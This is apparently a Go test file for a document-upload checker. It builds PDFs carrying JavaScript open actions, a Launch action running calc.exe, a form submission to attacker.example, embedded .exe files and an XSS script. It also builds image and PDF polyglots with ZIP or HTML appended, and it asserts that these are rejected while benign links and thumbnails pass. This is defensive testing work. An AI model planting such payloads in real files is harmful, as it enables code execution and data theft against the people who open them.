package upload

import (
	"archive/zip"
	"bytes"
	"testing"

	"github.com/go-pdf/fpdf"

	"github.com/sejour/sejour/internal/permit"
)

// withCatalog returns a handmade PDF of one page whose catalog carries
// extra, the page pageExtra, and further objects numbered from 4.
func withCatalog(extra, pageExtra string, more ...string) []byte {
	return handmadePDF(append([]string{
		"<< /Type /Catalog /Pages 2 0 R " + extra + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + pageExtra + " >>",
	}, more...)...)
}

// zipFile returns a small ZIP archive holding one file.
func zipFile(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.Create("payload.html")
	if err != nil {
		t.Fatal(err)
	}
	w.Write([]byte("<script>alert(document.domain)</script>"))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestActiveContentAndPolyglots refuses PDFs that carry scripts, actions
// that launch something, attached files, rich media or XML forms, and
// files that are also a ZIP archive or hide data after an image's end
// (issue 13 item 11: they were accepted). Links and page destinations,
// which office suites write, stay accepted.
func TestActiveContentAndPolyglots(t *testing.T) {
	pdf := pdfFile(t, nil, "", "")
	archive := zipFile(t)
	pngf := pngFile(t, 64, 48)
	jpg := jpegFile(t, 64, 48, 0)
	tests := []struct {
		name    string
		data    []byte
		wantKey string // "" to accept
	}{
		{"script run at opening", withCatalog("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", ""), KeyPDFActive},
		{"script as a separate object", withCatalog("/OpenAction 4 0 R", "", "<< /S /JavaScript /JS 5 0 R >>", "<< /Length 11 >>\nstream\napp.alert()\nendstream"), KeyPDFActive},
		{"script with an escaped name", withCatalog("/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>", ""), KeyPDFActive},
		{"document scripts", withCatalog("/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>", ""), KeyPDFActive},
		{"program launched when a page opens", withCatalog("", "/AA << /O << /S /Launch /F (calc.exe) >> >>"), KeyPDFActive},
		{"form submitted when a page closes", withCatalog("", "/AA << /C << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >> >>"), KeyPDFActive},
		{"attached file", withCatalog("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "",
			"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), KeyPDFActive},
		{"file attachment annotation", withCatalog("", "/Annots [4 0 R]",
			"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.exe) >> >>"), KeyPDFActive},
		{"rich media", withCatalog("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"), KeyPDFActive},
		{"XML form", withCatalog("/AcroForm << /Fields [] /XFA 4 0 R >>", "", "<< /Length 7 >>\nstream\n<xdp/>\nendstream"), KeyPDFActive},

		{"link to a web page", withCatalog("", "/Annots [4 0 R]",
			"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.service-public.fr/) >> >>"), ""},
		{"opening on the first page", withCatalog("/OpenAction [3 0 R /Fit]", ""), ""},
		{"office document with a link", pdfWithLink(t), ""},
		{"empty list of attached files, as fpdf writes", withCatalog("/Names << /EmbeddedFiles << /Names [] >> >>", ""), ""},

		{"PDF with a ZIP inside, before its end", append(append(bytes.Clone(pdf), archive...), "\n%%EOF\n"...), KeyPolyglot},
		{"PDF starting with a ZIP", append(bytes.Clone(archive), pdf...), KeyType},
		{"PNG with a ZIP after its end", append(bytes.Clone(pngf), archive...), KeyPolyglot},
		{"JPEG with a ZIP after its end", append(bytes.Clone(jpg), archive...), KeyPolyglot},
		{"JPEG with a page after its end", append(bytes.Clone(jpg), bytes.Repeat([]byte("<html>"), 20)...), KeyPolyglot},
		{"PNG with a page after its end", append(bytes.Clone(pngf), bytes.Repeat([]byte("<html>"), 20)...), KeyPolyglot},
		{"PNG with a few bytes after its end", append(bytes.Clone(pngf), bytes.Repeat([]byte{1}, trailerTolerance)...), ""},
		{"JPEG padded with zeros", padded(jpg, 100_000), ""},
		{"JPEG with a thumbnail", jpegWithThumbnail(t), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Check(tt.data, testLimits)
			if msg, _ := permit.ErrorMessage(err); msg != tt.wantKey {
				t.Errorf("Check = %v; want %q", err, tt.wantKey)
			}
		})
	}
}

// pdfWithLink returns a PDF as an office suite writes it, with a link to
// a web page.
func pdfWithLink(t *testing.T) []byte {
	t.Helper()
	doc := fpdf.New("P", "mm", "A4", "")
	doc.SetFont("Helvetica", "", 12)
	doc.AddPage()
	doc.CellFormat(60, 10, "service-public.fr", "", 0, "", false, 0, "https://www.service-public.fr/")
	var buf bytes.Buffer
	if err := doc.Output(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// jpegWithThumbnail returns a JPEG whose Exif segment holds a thumbnail,
// itself a JPEG with its own end marker, as cameras write them: the end
// of the image is the outer one's.
func jpegWithThumbnail(t *testing.T) []byte {
	t.Helper()
	thumb := jpegFile(t, 16, 16, 0)
	main := jpegFile(t, 64, 48, 0)
	app1 := append([]byte("Exif\x00\x00"), thumb...)
	seg := []byte{0xff, 0xe1, byte((len(app1) + 2) >> 8), byte(len(app1) + 2)}
	out := append([]byte{}, main[:2]...)
	out = append(out, seg...)
	out = append(out, app1...)
	return append(out, main[2:]...)
}
